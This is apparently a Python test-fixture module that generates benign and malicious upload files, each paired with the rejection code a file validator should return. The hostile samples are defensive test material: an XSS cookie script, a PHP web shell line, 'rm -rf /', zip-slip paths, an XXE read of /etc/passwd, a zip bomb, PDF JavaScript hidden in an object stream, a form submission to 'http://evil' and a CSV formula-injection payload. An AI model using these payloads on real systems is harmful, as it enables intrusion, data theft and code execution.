"""Good and evil files, made here: the tests read what must happen to each (TRUST.md T15)."""

from __future__ import annotations

import functools
import io
import struct
import zipfile
import zlib

from openpyxl import Workbook
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

SCRIPT = b"<script>alert(document.cookie)</script>"
# The industry's harmless test pattern for virus scanners, put together so that this file does not trip one.
EICAR = ("X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-" + "TEST-FILE!$H+H*").encode()


def image(form: str = "JPEG", size: tuple[int, int] = (60, 40), mode: str = "RGB", **save: object) -> bytes:
    out = io.BytesIO()
    Image.linear_gradient("L").resize(size).convert(mode).save(out, format=form, **save)
    return out.getvalue()


def photo_with_place() -> bytes:
    """A JPEG that says where and with what it was taken, lying on its side."""
    exif = Image.Exif()
    exif[0x0112] = 6  # rotated by a quarter
    exif[0x010F] = "CANARY-CAMERA"
    exif.get_ifd(0x8825)[2] = (39.0, 54.0, 31.0)
    return image(exif=exif, comment=b"CANARY-COMMENT")


def png_claiming(width: int, height: int) -> bytes:
    """A small PNG whose header promises a huge picture."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", zlib.compress(b"\0" * 1000)) + _chunk(b"IEND", b"")


def png_with_text(text: bytes) -> bytes:
    whole = image("PNG")
    return whole[:33] + _chunk(b"tEXt", b"Comment\0" + text) + whole[33:]


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def pdf(pages: int = 1, *, root: dict[str, object] | None = None, annotation: DictionaryObject | None = None, password: str = "") -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    for name, value in (root or {}).items():
        writer.root_object[NameObject(name)] = value
    if annotation is not None:
        writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])
    if password:
        writer.encrypt(password)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def acting(kind: str, **more: str) -> DictionaryObject:
    """An action dictionary such as /Launch."""
    entries = {NameObject("/S"): NameObject(kind)}
    return DictionaryObject(entries | {NameObject(f"/{k}"): TextStringObject(v) for k, v in more.items()})


def pdf_with_attachment() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=100, height=100)
    writer.add_attachment("invoice.exe", b"MZ")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_with_javascript() -> bytes:
    """Run by the reader as the document opens: the catalogue's tree of scripts."""
    tree = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("a"), acting("/JavaScript", JS="app.alert(1)")])})
    return pdf(root={"/Names": DictionaryObject({NameObject("/JavaScript"): tree})})


def pdf_hiding_javascript_in_an_object_stream() -> bytes:
    """PDF 1.5 packs objects into compressed streams, where a search through the bytes finds nothing."""
    packed_objects = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
    body = b"5 0 " + packed_objects
    stream = zlib.compress(body)
    parts = [
        b"1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R>>endobj\n",
        b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n",
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\n",
        b"4 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(stream) + stream + b"\nendstream endobj\n",
    ]
    out, offsets = b"%PDF-1.5\n", []
    for part in parts:
        offsets.append(len(out))
        out += part
    rows = [(0, 0, 255), *((1, offset, 0) for offset in offsets), (2, 4, 0), (1, len(out), 0)]
    table = zlib.compress(b"".join(struct.pack(">BHB", *row) for row in rows))
    start = len(out)
    out += b"6 0 obj<</Type/XRef/Size 7/W[1 2 1]/Root 1 0 R/Filter/FlateDecode/Length %d>>stream\n" % len(table)
    return out + table + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF\n" % start


def workbook() -> bytes:
    book = Workbook()
    book.active.append(["编号", "金额"])
    book.active.append(["L26-000123-7", 3174.39])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def workbook_with(members: dict[str, bytes], *, drop: tuple[str, ...] = ()) -> bytes:
    """The plain workbook with members added, replaced or dropped."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(workbook())) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for member in source.infolist():
            if member.filename not in members and member.filename not in drop:
                target.writestr(member, source.read(member))
        for name, data in members.items():
            target.writestr(name, data)
    return out.getvalue()


def workbook_with_link() -> bytes:
    """A member that is a symbolic link."""
    out = io.BytesIO(workbook())
    with zipfile.ZipFile(out, "a") as target:
        link = zipfile.ZipInfo("xl/link")
        link.external_attr = 0o120777 << 16
        target.writestr(link, "/etc/passwd")
    return out.getvalue()


def archive(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for name, data in members.items():
            target.writestr(name, data)
    return out.getvalue()


def bomb() -> bytes:
    """A workbook of 130 KB that would unpack to 130 MB."""
    out = io.BytesIO(workbook())
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as target, target.open("xl/worksheets/sheet9.xml", "w") as member:
        for _ in range(130):
            member.write(b"0" * 1_000_000)
    return out.getvalue()


_XXE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
_URI = DictionaryObject({NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/FileAttachment")})


def _with_action(kind: str, **more: str) -> bytes:
    return pdf(root={"/OpenAction": acting(kind, **more)})


@functools.cache
def evil_papers() -> list[tuple[str, bytes, str]]:
    """(name, bytes, code of the refusal) for a category that takes pictures and PDF."""
    return [*_evil_pictures(image(), image("PNG"), pdf()), *_evil_pdfs(image(), pdf())]


def _evil_pictures(jpeg: bytes, png: bytes, plain: bytes) -> list[tuple[str, bytes, str]]:
    return [
        ("empty.jpg", b"", "file_empty"),
        ("empty.pdf", b"", "file_empty"),
        ("drawing.svg", b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>", "file_kind_foreign"),
        ("drawing.jpg", b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>', "file_kind_foreign"),
        ("page.html", b"<!doctype html><html>" + SCRIPT, "file_kind_foreign"),
        ("page.jpg", b"\xef\xbb\xbf \n<html><body>", "file_kind_foreign"),
        ("virus.pdf", EICAR, "file_kind_unknown"),
        ("program.exe", b"MZ\x90\0" + b"\0" * 200, "file_kind_foreign"),
        ("program.jpg", b"MZ\x90\0" + b"\0" * 200, "file_kind_foreign"),
        ("program.png", b"\x7fELF" + b"\0" * 200, "file_kind_foreign"),
        ("script.pdf", b"#!/bin/sh\nrm -rf /\n", "file_kind_foreign"),
        ("moving.gif", image("GIF", mode="P"), "file_kind_foreign"),
        ("moving.jpg", image("GIF", mode="P"), "file_kind_foreign"),
        ("old.bmp", image("BMP"), "file_kind_foreign"),
        ("scan.tiff", image("TIFF"), "file_kind_foreign"),
        ("phone.heic", b"\0\0\0\x18ftypheic" + b"\0" * 50, "file_is_heic"),
        ("phone.jpg", b"\0\0\0\x18ftypmif1" + b"\0" * 50, "file_is_heic"),
        ("film.mp4", b"\0\0\0\x18ftypisom" + b"\0" * 50, "file_kind_foreign"),
        ("letter.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 99, "file_kind_foreign"),
        ("letter.docx", archive({"[Content_Types].xml": b"<a/>", "word/document.xml": b"<a/>"}), "file_kind_foreign"),
        ("list.xlsx", workbook(), "file_kind_foreign"),
        ("list.csv", "编号,金额\n1,2\n".encode(), "file_kind_unknown"),
        ("pack.zip", archive({"a.txt": b"a"}), "file_kind_foreign"),
        ("slip.zip", archive({"../../etc/cron.d/x": b"a"}), "file_kind_foreign"),
        ("pack.rar", b"Rar!\x1a\x07\x00" + b"\0" * 20, "file_kind_foreign"),
        ("pack.gz", b"\x1f\x8b\x08" + b"\0" * 20, "file_kind_foreign"),
        ("text.txt", b"hello", "file_kind_unknown"),
        ("noise.jpg", bytes(range(256)) * 20, "file_kind_unknown"),
        ("picture.pdf", jpeg, "file_extension_mismatch"),
        ("paper.jpg", plain, "file_extension_mismatch"),
        ("picture.png", jpeg, "file_extension_mismatch"),
        ("picture.jpg", png, "file_extension_mismatch"),
        ("picture.webp", png, "file_extension_mismatch"),
        ("picture", jpeg, "file_extension_mismatch"),
        ("picture.jpg.exe", jpeg, "file_extension_mismatch"),
        ("picture.jpg ", jpeg[:200], "file_damaged"),
        ("half.jpg", jpeg[: len(jpeg) // 2], "file_damaged"),
        ("head.jpg", jpeg[:3], "file_damaged"),
        ("head.png", png[:40], "file_damaged"),
        ("head.webp", image("WEBP")[:20], "file_damaged"),
        ("mark.png", b"\x89PNG\r\n\x1a\n" + b"\0" * 99, "file_damaged"),
        ("huge.png", png_claiming(50_000, 50_000), "image_too_many_pixels"),
        ("large.png", png_claiming(9_000, 9_000), "image_too_many_pixels"),
        ("tail.jpg", jpeg + b"<html>" + SCRIPT, "file_disguised"),
        ("tail.png", png + SCRIPT, "file_disguised"),
        ("shout.png", png + b"<SCRIPT src=//evil>", "file_disguised"),
        ("comment.jpg", image(comment=SCRIPT), "file_disguised"),
        ("comment.png", png_with_text(b"<?php system($_GET[0]); ?>"), "file_disguised"),
        ("vector.png", png_with_text(b'<svg xmlns="http://www.w3.org/2000/svg">'), "file_disguised"),
        ("link.jpg", jpeg + b"javascript:alert(1)", "file_disguised"),
        ("frame.jpg", jpeg + b"<iframe src=x>", "file_disguised"),
        ("zip.jpg", jpeg + archive({"a.txt": b"a"}), "file_disguised"),
        ("jar.png", png + archive({"META-INF/MANIFEST.MF": b"a"}), "file_disguised"),
        ("pdf.jpg", jpeg + plain, "file_disguised"),
    ]


def _evil_pdfs(jpeg: bytes, plain: bytes) -> list[tuple[str, bytes, str]]:
    return [
        ("page.pdf", plain + b"<html>" + SCRIPT, "file_disguised"),
        ("zip.pdf", plain + archive({"a.txt": b"a"}), "file_disguised"),
        ("locked.pdf", pdf(password="secret"), "pdf_encrypted"),
        ("javascript.pdf", pdf_with_javascript(), "pdf_active"),
        ("packed.pdf", pdf_hiding_javascript_in_an_object_stream(), "pdf_active"),
        ("action.pdf", _with_action("/JavaScript", JS="app.alert(1)"), "pdf_active"),
        ("launch.pdf", _with_action("/Launch", F="calc.exe"), "pdf_active"),
        ("submit.pdf", _with_action("/SubmitForm", F="http://evil"), "pdf_active"),
        ("import.pdf", _with_action("/ImportData", F="x.fdf"), "pdf_active"),
        ("embedded.pdf", _with_action("/GoToE"), "pdf_active"),
        ("media.pdf", _with_action("/Rendition"), "pdf_active"),
        ("attachment.pdf", pdf_with_attachment(), "pdf_active"),
        ("pin.pdf", pdf(annotation=_URI), "pdf_active"),
        ("additional.pdf", pdf(root={"/AA": DictionaryObject()}), "pdf_active"),
        ("form.pdf", pdf(root={"/AcroForm": DictionaryObject({NameObject("/XFA"): TextStringObject("x")})}), "pdf_active"),
        ("escaped.pdf", pdf(root={"/OpenAction": acting("/JavaScript")}).replace(b"/JavaScript", b"/J#61vaScript"), "pdf_active"),
        ("cut.pdf", plain[:60], "file_damaged"),
        ("mark.pdf", b"%PDF-1.7\n", "file_damaged"),
        ("nothing.pdf", b"%PDF-1.7\n" + b"\0" * 5000, "file_damaged"),
        ("pages.pdf", pdf(0), "file_damaged"),
        ("long.pdf", pdf(501), "pdf_too_long"),
        ("name\u202egpj.exe", jpeg, "file_extension_mismatch"),
        ("C:\\temp\\x.exe", jpeg, "file_extension_mismatch"),
        ("../../x.sh", jpeg, "file_extension_mismatch"),
        ("n" * 5000, jpeg, "file_extension_mismatch"),
    ]


@functools.cache
def evil_sheets() -> list[tuple[str, bytes, str]]:
    """For a category that takes XLSX and CSV."""
    return [
        ("empty.csv", b"", "file_empty"),
        ("picture.xlsx", image(), "file_kind_foreign"),
        ("paper.csv", pdf(), "file_kind_foreign"),
        ("page.csv", b"<html><table>", "file_kind_foreign"),
        ("program.csv", b"MZ\x90\0", "file_kind_foreign"),
        ("unknown.dat", b"a,b\n1,2\n", "file_kind_unknown"),
        ("list.csv", workbook(), "file_extension_mismatch"),
        ("list.xlsm", workbook(), "file_extension_mismatch"),
        ("cut.xlsx", workbook()[:900], "file_damaged"),
        ("letter.xlsx", archive({"[Content_Types].xml": b"<a/>", "word/document.xml": b"<a/>"}), "file_damaged"),
        ("noise.xlsx", b"PK\x03\x04" + bytes(range(256)) * 9, "file_damaged"),
        ("hollow.xlsx", workbook_with({}, drop=("xl/worksheets/sheet1.xml", "xl/workbook.xml")), "file_damaged"),
        ("bomb.xlsx", bomb(), "sheet_bloated"),
        ("many.xlsx", workbook_with({f"xl/media/{i}.bin": b"" for i in range(600)}), "sheet_bloated"),
        ("macro.xlsx", workbook_with({"xl/vbaProject.bin": b"x"}), "sheet_unsafe"),
        ("old_macro.xlsx", workbook_with({"xl/macrosheets/sheet1.xml": b"<a/>"}), "sheet_unsafe"),
        ("object.xlsx", workbook_with({"xl/embeddings/oleObject1.bin": b"x"}), "sheet_unsafe"),
        ("control.xlsx", workbook_with({"xl/activeX/activeX1.bin": b"x"}), "sheet_unsafe"),
        ("outside.xlsx", workbook_with({"xl/externalLinks/externalLink1.xml": b"<a/>"}), "sheet_unsafe"),
        ("slip.xlsx", workbook_with({"../../etc/cron.d/x": b"x"}), "sheet_unsafe"),
        ("absolute.xlsx", workbook_with({"/etc/x": b"x"}), "sheet_unsafe"),
        ("windows.xlsx", workbook_with({"xl/C:x": b"x"}), "sheet_unsafe"),
        ("nested.xlsx", workbook_with({"xl/media/inner.zip": archive({"a": b"a"})}), "sheet_unsafe"),
        ("link.xlsx", workbook_with_link(), "sheet_unsafe"),
        ("entity.xlsx", workbook_with({"xl/sharedStrings.xml": _XXE}), "sheet_unsafe"),
        ("utf16.csv", "编号,金额".encode("utf-16"), "csv_unreadable"),
        ("nul.csv", b"a,b\n1,\0\n", "csv_unreadable"),
        ("latin.csv", b"caf\xe9\xff\xff\n", "csv_unreadable"),
        ("script.csv", b"a,b\n1," + SCRIPT, "file_disguised"),
    ]


@functools.cache
def good_papers() -> list[tuple[str, bytes, str]]:
    """(name, bytes, kind)."""
    return [
        ("身份证.jpg", image(), "jpeg"), ("身份证.JPEG", image(), "jpeg"), ("scan.jfif", image(), "jpeg"),
        ("grey.jpg", image(mode="L"), "jpeg"), ("print.jpg", image(mode="CMYK"), "jpeg"),
        ("progressive.jpg", image(progressive=True), "jpeg"), ("phone.jpg", photo_with_place(), "jpeg"),
        ("motion.jpg", image() + b"\0\0\0\x18ftypmp42" + b"\0" * 99, "jpeg"),
        ("clear.png", image("PNG", mode="RGBA"), "png"), ("palette.png", image("PNG", mode="P"), "png"),
        ("bits.png", image("PNG", mode="1"), "png"), ("web.webp", image("WEBP"), "webp"),
        ("large.jpg", image(size=(9000, 6000)), "jpeg"),
        ("流水.pdf", pdf(3), "pdf"), ("long.PDF", pdf(500), "pdf"), ("link.pdf", _with_action("/URI", URI="https://example.com"), "pdf"),
        ("invoice.php.jpg", image(), "jpeg"), ("nul\0byte.jpg", image(), "jpeg"), ("con.jpg", image(), "jpeg"),
    ]


@functools.cache
def good_sheets() -> list[tuple[str, bytes, str]]:
    return [
        ("明细.xlsx", workbook(), "xlsx"), ("明细.csv", "编号,金额\nL26,1.00\n".encode("utf-8-sig"), "csv"),
        ("wps.csv", "编号,金额\nL26,1.00\n".encode("gb18030"), "csv"), ("formula.csv", b"a\n=cmd|' /C calc'!A0\n", "csv"),
    ]
